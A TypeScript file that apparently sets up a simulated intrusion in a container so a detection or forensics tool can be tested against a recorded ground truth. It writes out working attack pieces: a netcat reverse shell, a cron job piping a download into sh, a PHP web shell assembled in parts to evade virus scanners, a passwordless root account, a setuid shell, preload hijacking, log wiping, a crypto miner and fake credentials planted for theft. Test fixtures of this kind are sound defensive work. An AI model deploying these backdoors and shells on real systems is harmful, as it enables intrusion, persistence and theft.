/** What the intruder does in the container: the files that are fetched, and the script that plants everything. */
import { randomBytes } from 'node:crypto';
import { chmod, mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { makeCredentials } from './credentials.ts';
import { buildKit, SHELL, SYSTEM_BINARY } from './image.ts';
import { type CredentialKind, type PlantedChange, type PlantedText, piecesOf, type Truth } from './truth.ts';

/** The intruder's own side: one port that gives files, one that waits for a shell. */
export const KIT_PORT = 8000;
export const SHELL_PORT = 4443;
/** Opened by the intruder in the container. */
export const BACKDOOR_PORT = 4444;
export const HIDDEN = '/tmp/.x';
export const AGENT = '/usr/local/sbin/backup-agent';
export const MINER = '/var/tmp/.cache/xmrig';
export const POOL = ['stratum', 'tcp://pool.shop.example:3333'].join('+');
export const PRELOADED = `${HIDDEN}/libprocess.so`;
const SECOND_PRELOADED = '/usr/lib/libprocess.so';
/** What the obfuscated command line says. */
export const HIDDEN_SCRIPT = 'while :; do sleep 3600; done # beacon';

/** Deleted files that are held open, by path, with what stands in each line. */
export const DELETED = {
  [`${HIDDEN}/payload.bin`]: 'payload: stage two, key 5f1e, run at dawn',
  '/var/log/daemon.log': 'shop daemon: accepted connection from 203.0.113.7',
};

/** Everything of one run that is made anew. */
export interface Attack {
  readonly script: string;
  /** A command that serves the kit from where it is mounted, then waits for a shell. */
  serve(mountpoint: string): string;
  readonly changes: readonly PlantedChange[];
  readonly files: Truth['credentials']['files'];
  readonly environment: readonly (PlantedText & { variable: string })[];
  /** Where in the file of this name each text begins, for what is read into memory. */
  readonly read: readonly { name: string; path: string; texts: readonly (PlantedText & { offset: number })[] }[];
}

/** Lays the kit into the empty folder `kit`. */
export async function prepareAttack(kit: string): Promise<Attack> {
  const credentials = makeCredentials();
  const planted = (kind: CredentialKind): PlantedText => ({ kind, pieces: piecesOf(credentials[kind]) });
  const aws = `[default]
aws_access_key_id = ${credentials['aws-access-key']}
aws_secret_access_key = ${credentials['aws-secret-key']}
`;
  const settings = `GITHUB_TOKEN=${credentials['github-token']}
DATABASE_URL=${credentials['url-password']}
SESSION=${credentials.jwt}
`;
  const documents: readonly (readonly [string, string, string, readonly CredentialKind[]])[] = [
    ['aws', '/root/.aws/credentials', aws, ['aws-access-key', 'aws-secret-key']],
    ['kube', '/root/.kube/config', credentials.kubeconfig, ['kubeconfig']],
    ['key', '/root/.ssh/id_rsa', credentials['private-key'], ['private-key']],
    ['settings', '/var/www/html/.env', settings, ['github-token', 'url-password', 'jwt']],
  ];
  await mkdir(join(kit, HIDDEN), { recursive: true });
  await buildKit(join(kit, HIDDEN));
  for (const [, path, text] of documents) await lay(join(kit, path), text);
  const texts = changedTexts();
  for (const { path, text } of texts) await lay(join(kit, path), text);
  const environment = [
    { ...planted('aws-access-key'), variable: 'AWS_ACCESS_KEY_ID' },
    { ...planted('aws-secret-key'), variable: 'AWS_SECRET_ACCESS_KEY' },
    { ...planted('github-token'), variable: 'GITHUB_TOKEN' },
    { ...planted('url-password'), variable: 'DATABASE_URL' },
  ];
  const variables = environment.map(({ variable, pieces }) => `${variable}='${pieces.join('')}'`).join(' ');
  const names = documents.map(([name, path]) => `${name} ${path}`).join(' ');
  const sent = [HIDDEN, ...documents.map(([, path]) => path), ...texts.map(({ path }) => path)];
  return {
    script: scriptOf(variables, names),
    serve: (mountpoint) =>
      [
        `cd ${mountpoint}; nc -l -p ${KIT_PORT} -e /bin/tar c ${sent.map((path) => path.slice(1)).join(' ')}`,
        `(echo 'cd ${HIDDEN}'; sleep 100000) | nc -l -p ${SHELL_PORT}`,
      ].join('; '),
    changes: [...texts.map(({ text: _whole, ...change }) => change), ...CHANGED_BY_SCRIPT],
    files: documents.flatMap(([, path, , kinds]) => kinds.map((kind) => ({ ...planted(kind), path }))),
    environment,
    read: documents.map(([name, path, text, kinds]) => ({
      ...{ name, path },
      texts: kinds.map((kind) => ({ ...planted(kind), offset: text.indexOf(credentials[kind]) })),
    })),
  };
}

async function lay(path: string, text: string): Promise<void> {
  await mkdir(dirname(path), { recursive: true });
  await writeFile(path, text);
  await chmod(path, 0o600);
}

/** Files that come with the kit. Their texts are put together here: a virus scanner is not to find them in this source. */
function changedTexts(): readonly (PlantedChange & { text: string })[] {
  // RFC 4253 6.6: lengths before name and key.
  const key = Buffer.concat([
    Buffer.from('0000000b', 'hex'),
    Buffer.from('ssh-ed25519'),
    Buffer.of(0, 0, 0, 32),
    randomBytes(32),
  ]);
  const request = (name: string) => ['$', '_', name].join('');
  const web = ['<?', 'php @ev', 'al(', request('POST'), '["c"]); sys', 'tem(', request('GET'), '["cmd"]); ?>\n'].join(
    '',
  );
  const change = 'added';
  return [
    { what: 'cron', path: '/etc/cron.d/sync', change, text: `* * * * * root nc 127.0.0.1 ${KIT_PORT} | sh\n` },
    { what: 'profile', path: '/etc/profile.d/locale.sh', change, text: `${HIDDEN}/a bind-shell >/dev/null 2>&1 &\n` },
    {
      what: 'authorized-keys',
      path: '/root/.ssh/authorized_keys',
      change,
      text: `ssh-ed25519 ${key.toString('base64')} x@kit\n`,
    },
    { what: 'web-shell', path: '/var/www/html/wp-info.php', change, text: web },
  ];
}

/** And what the script changes by itself. */
const CHANGED_BY_SCRIPT: readonly PlantedChange[] = [
  { what: 'second-root', path: '/etc/passwd', change: 'changed', text: 'toor::0:0::/root:/bin/sh' },
  { what: 'setuid-shell', path: '/usr/local/sbin/.sh', change: 'added' },
  { what: 'truncated-log', path: '/var/log/auth.log', change: 'changed' },
  { what: 'system-binary', path: SYSTEM_BINARY, change: 'changed' },
  { what: 'library-preload', path: '/etc/ld.so.preload', change: 'added', text: SECOND_PRELOADED },
];

/** Prints a line a thing, as programs/intruder.c does, and ends once all of them run. `/etc/ld.so.preload` comes last: it would be heeded. */
function scriptOf(variables: string, reads: string): string {
  const deleted = Object.entries(DELETED)
    .map(([path, text]) => `'${path}' '${text}'`)
    .join(' ');
  const hidden = Buffer.from(`${HIDDEN_SCRIPT}\n`).toString('base64');
  return `set -e
cd /tmp
until nc 127.0.0.1 ${KIT_PORT} </dev/null >kit; do sleep 0.1; done
tar x -C / -f kit; rm kit
run() { echo "$("$@" 2>&1 &)"; }
mkdir -p ${MINER.replace(/\/[^/]+$/, '')}
cp ${HIDDEN}/a ${MINER}
cp ${HIDDEN}/a ${AGENT}
cp ${HIDDEN}/a ${HIDDEN}/kworker
run ${HIDDEN}/kworker
run ${HIDDEN}/a memfd
run ${HIDDEN}/a as-kernel-thread
run ${HIDDEN}/a hold-deleted ${deleted}
run env ${variables} ${HIDDEN}/a secrets ${reads}
run ${HIDDEN}/a inject
run ${AGENT} hook
run ${HIDDEN}/a sniff
run ${HIDDEN}/a bind-shell
run ${MINER} -o ${POOL} -u shopwallet.1 --cpu-priority 0
LD_PRELOAD=${PRELOADED} setsid /usr/bin/worker </dev/null >/dev/null 2>&1 &
echo preload $! - - -
setsid sh -c 'echo ${hidden} | base64 -d | sh' </dev/null >/dev/null 2>&1 &
echo obfuscated $! - - -
setsid nc 127.0.0.1 ${SHELL_PORT} -e /bin/sh -c 'exec /bin/sh -i 2>&1' </dev/null >/dev/null 2>&1 &
shell=$!
until readlink /proc/$shell/fd/2 | grep -q socket && readlink /proc/$shell/cwd | grep -q ${HIDDEN}; do sleep 0.1; done
echo reverse-shell $shell - - -
echo 'toor::0:0::/root:/bin/sh' >>/etc/passwd
cp ${SHELL} /usr/local/sbin/.sh
chmod 4755 /usr/local/sbin/.sh
: >/var/log/auth.log
cp ${HIDDEN}/a ${SYSTEM_BINARY}
cp ${PRELOADED} ${SECOND_PRELOADED}
echo ${SECOND_PRELOADED} >/etc/ld.so.preload`;
}
